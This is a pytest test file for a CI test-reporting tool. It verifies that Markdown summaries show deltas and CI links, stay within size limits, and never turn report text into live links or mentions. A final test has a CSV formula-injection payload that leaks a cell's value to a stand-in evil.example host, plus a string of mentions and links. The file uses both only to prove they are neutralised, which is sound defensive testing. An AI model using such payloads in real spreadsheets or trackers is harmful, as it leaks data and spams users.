"""CI summaries in Markdown: deltas against the base run, links from the CI environment, failure details
collapsed, under 65,000 characters, and safe to post (no mention, issue link or autolink from report text)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from factories import Cli, junit_case, junit_xml, write_report
from markdown_it import MarkdownIt

from ccdash_tests.output.markdown import MAX_CHARS, escape
from ccdash_tests.runmeta import default_base_branch

GITHUB = {
    "GITHUB_SERVER_URL": "https://github.com",
    "GITHUB_REPOSITORY": "acme/shop",
    "GITHUB_RUN_ID": "4242",
    "GITHUB_BASE_REF": "main",
}
SHA = "c0ffee" + "0" * 34
HOSTILE = "ping @acme/oncall about #123 and !7, see https://evil.example/x and www.evil.example"


def ingest(cli: Cli, folder: Path, name: str, cases: list[str], *args: str) -> None:
    cli("ingest", write_report(folder, f"{name}.xml", junit_xml(*cases)), "--run-id", name, *args, code=0)


@pytest.fixture
def store(tmp_path: Path) -> Cli:
    """main: a base run; then a pull-request run on feature/x that breaks, fixes, drops and skips tests."""
    cli = Cli(tmp_path / "s.db", "shop")
    base = [
        junit_case("test_keeps", classname="t", time="1.0"),
        junit_case("test_breaks", classname="t", time="1.0"),
        junit_case("test_fixed", "failed", classname="t", time="1.0"),
        junit_case("test_dropped", classname="t", time="1.0"),
        junit_case("test_skips", classname="t", time="1.0"),
    ]
    ingest(cli, tmp_path, "base", base, "--branch", "main", "--timestamp", "2026-11-01T00:00:00Z")
    ingest(cli, tmp_path, "other", base[:1], "--branch", "release", "--timestamp", "2026-11-02T00:00:00Z")
    head = [
        junit_case("test_keeps", classname="t", time="1.0"),
        junit_case("test_breaks", "failed", classname="t", file="t.py", line=12, time="2.5", message=HOSTILE,
                   text=f"{HOSTILE}\nTraceback line 2\n```\nbackticks in a trace"),
        junit_case("test_fixed", classname="t", time="1.0"),
        junit_case("test_skips", "skipped", classname="t"),
        junit_case("test_new", classname="t", time="1.0"),
    ]  # fmt: skip
    ingest(cli, tmp_path, "head", head, "--branch", "feature/x", "--git-sha", SHA,
           "--timestamp", "2026-11-03T00:00:00Z")  # fmt: skip
    return cli


def test_run_summary_has_deltas_links_and_details(store: Cli) -> None:
    text = store("runs", "show", "--format", "markdown", env=GITHUB, code=0).stdout
    assert "[commit](https://github.com/acme/shop/commit/" + SHA + ")" in text
    assert "[CI run](https://github.com/acme/shop/actions/runs/4242)" in text
    # Compared with main's newest earlier run (GITHUB_BASE_REF), not release's.
    assert "| base `base` | 5 | 4 | 1 | 0 | 5.00 s |" in text
    assert "| this run | 5 | 3 | 1 | 1 | 5.51 s |" in text
    assert "| change | ±0 | \u22121 | ±0 | +1 | +510 ms |" in text
    sections = {
        title: re.findall(r"^- `([^`]+)`", body, re.M)
        for title, body in re.findall(r"^#### (.+?) \(\d+\)\n\n((?:- .*\n?)+)", text, re.M)
    }
    assert sections == {
        "New failures": ["t.py::test_breaks"],  # a pytest node id: the case names its file
        "Fixed": ["t::test_fixed"],
        "Removed tests": ["t::test_dropped"],
        "Newly skipped": ["t::test_skips"],
    }
    details = re.search(
        r"<details><summary><code>t\.py::test_breaks</code> failed</summary>\n\n(````text\n.*?\n````)",
        text,
        re.S,
    )
    assert details, text
    assert re.search(r"\nat t\.py:\d+\n", details.group(1)) and "```\nbackticks" in details.group(1)


def test_summary_is_safe_to_post(store: Cli) -> None:
    text = store("runs", "show", "--format", "markdown", env=GITHUB, code=0).stdout
    html = MarkdownIt("commonmark").enable("table").render(text)
    # The only links are the two the tool built; report text links, mentions and references nothing.
    assert re.findall(r'<a href="([^"]+)"', html) == [
        f"https://github.com/acme/shop/commit/{SHA}",
        "https://github.com/acme/shop/actions/runs/4242",
    ]
    prose = re.sub(r"<code>.*?</code>|<pre>.*?</pre>", "", html, flags=re.S)
    for live in ("@acme", "#123", "!7", "https://evil", "www.evil"):
        assert live not in prose, live
    assert escape(HOSTILE).count("`") == 10  # five live tokens, each in a code span


def test_without_a_base_run_it_says_so(store: Cli) -> None:
    text = store("runs", "show", "--format", "markdown", "--base-branch", "develop", code=0).stdout
    assert "No earlier run of branch `develop` to compare with." in text and "| change |" not in text


def test_gate_markdown_carries_the_deltas(store: Cli) -> None:
    result = store("gate", "--max-new-failures", "0", "--format", "markdown", env=GITHUB)
    assert result.exit_code == 1
    assert "base run `base`" in result.stdout and "| change | ±0 |" in result.stdout
    assert "#### New failures (1)" in result.stdout


def test_a_huge_run_stays_under_the_limit_worst_first(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "s.db", "shop")
    cases = [junit_case(f"test_{i:04}", "failed", classname="t", message="x" * 300) for i in range(3000)]
    cases += [junit_case(f"test_e{i}", "error", classname="t") for i in range(3)]
    cases += [junit_case("test_retried", "flaky", classname="t")]
    ingest(cli, tmp_path, "big", cases)
    text = cli("runs", "show", "--format", "markdown", code=0).stdout
    assert len(text) < MAX_CHARS
    assert text.index("t::test_e0") < text.index("t::test_0000")  # errors first
    assert "... and " in text and "#### Flaky tests (1)" in text
    assert "<details>" in text


@pytest.mark.parametrize(
    ("env", "branch"),
    [
        ({"GITHUB_BASE_REF": "develop"}, "develop"),
        ({"CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "release/1"}, "release/1"),
        ({"BUILDKITE_PULL_REQUEST_BASE_BRANCH": "trunk"}, "trunk"),
        ({"BUILDKITE_PULL_REQUEST_BASE_BRANCH": "false"}, "main"),
        ({"GITHUB_BASE_REF": ""}, "main"),
    ],
)
def test_base_branch_defaults_to_the_pull_requests_target(env: dict[str, str], branch: str) -> None:
    assert default_base_branch(env) == branch


def test_listings_as_csv_and_markdown(store: Cli) -> None:
    runs = list(csv.DictReader(io.StringIO(store("runs", "list", "--format", "csv", code=0).stdout)))
    assert [r["run_id"] for r in runs] == ["head", "other", "base"]
    assert runs[0]["git_sha"] == SHA and runs[0]["failed"] == "1" and runs[0]["branch"] == "feature/x"
    failures = list(csv.DictReader(io.StringIO(store("failures", "--all", "--format", "csv", code=0).stdout)))
    assert {f["test_names"] for f in failures} == {"t.py::test_breaks", "t::test_fixed"}
    assert next(f for f in failures if f["test_names"] == "t.py::test_breaks")["message"] == HOSTILE
    flaky = store("flaky", "--format", "csv", code=0).stdout
    assert flaky.splitlines()[0].startswith("test,test_id,flake_rate")
    health = store("health", "--format", "csv", code=0).stdout
    assert health.splitlines()[0].startswith("domain,feature,tests,pass_rate")

    for args, heading in (
        (("failures", "--all"), "### 2 failing results in 2 clusters: 3 runs"),
        (("flaky",), "### Flaky tests over the last 3 runs (0)"),
        (("domains",), "### Domains of `shop`"),
        (("history", "test_breaks"), "### History of `t.py::test_breaks`"),
    ):
        text = store(*args, "--format", "markdown", code=0).stdout
        assert text.startswith(heading + "\n"), (args, text)
        prose = re.sub(r"<code>.*?</code>", "", MarkdownIt("commonmark").enable("table").render(text))
        assert "@acme" not in prose and "<a " not in prose
    refused = store("runs", "list", "--format", "csv", "--json")
    assert refused.exit_code == 2 and "choose one" in refused.stderr


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    # Report text that a spreadsheet would run on opening (=, +, -, @) is made inert with an apostrophe;
    # numbers stay numbers.
    cli = Cli(tmp_path / "s.db", "shop")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    cases = [
        junit_case("test_sum", "failed", classname="@SUM(A1)", message=formula),
        junit_case("test_plain", "failed", classname="t", message="-1 != 1"),
    ]
    ingest(cli, tmp_path, "r1", cases)
    failures = list(csv.DictReader(io.StringIO(cli("failures", "--all", "--format", "csv", code=0).stdout)))
    messages = {f["message"] for f in failures}
    assert messages == {"'" + formula, "'-1 != 1"}
    assert {f["test_names"] for f in failures} == {"'@SUM(A1)::test_sum", "t::test_plain"}
    runs = list(csv.DictReader(io.StringIO(cli("runs", "list", "--format", "csv", code=0).stdout)))
    assert runs[0]["failed"] == "2" and runs[0]["run_id"] == "r1"
